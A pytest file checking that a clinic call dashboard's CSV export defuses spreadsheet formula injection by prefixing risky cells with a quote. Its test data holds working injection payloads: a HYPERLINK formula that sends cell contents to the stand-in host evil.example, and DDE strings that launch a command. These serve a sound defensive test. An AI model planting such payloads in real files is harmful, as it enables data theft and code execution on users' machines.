"""The CSV export never hands a spreadsheet a formula, whatever the call data says."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import time_machine

from calls.reports import _safe_cell
from tests import factories
from tests.test_dashboard import NOW, add_call

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=1+HYPERLINK("https://evil.example/?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_could_start_a_formula_is_quoted(value):
    assert _safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+14155550123", "+1••••••••23", "-5", "12.5", "Monday", "ok - fine", 42, None])
def test_phone_numbers_numbers_and_text_are_left_alone(value):
    assert _safe_cell(value) == value


@time_machine.travel(NOW, tick=False)
def test_the_export_quotes_formulas_from_patient_and_bot_data(client):
    org = factories.make_org("csv-clinic", timezone="UTC")
    workflow = factories.make_workflow(org)
    patient = factories.make_patient(org, first_name="=1+HYPERLINK(\"x\")", last_name="", phone="+14155550123",
                                     external_id="-2+3+cmd|x")
    clinic = {"org": org, "wf": workflow, "patient": patient}
    call = add_call(clinic, created=NOW - timedelta(hours=1))
    type(call).objects.filter(pk=call.pk).update(outcome={"result": "+1+cmd|x", "notes": "\t=1+1", "data": {}})
    client.force_login(factories.make_user(org=org, role="staff"))
    resp = client.get("/calls/dashboard/export.csv", {"org": org.pk})
    (row,) = csv.DictReader(io.StringIO(b"".join(resp.streaming_content).decode()))
    assert row["patient_external_id"] == "'-2+3+cmd|x"
    assert row["patient_name"] == "'=1+HYPERLINK(\"x\")"
    assert row["outcome_result"] == "'+1+cmd|x"
    assert row["outcome_notes"] == "'\t=1+1"
    assert row["patient_phone"] == "+14155550123"
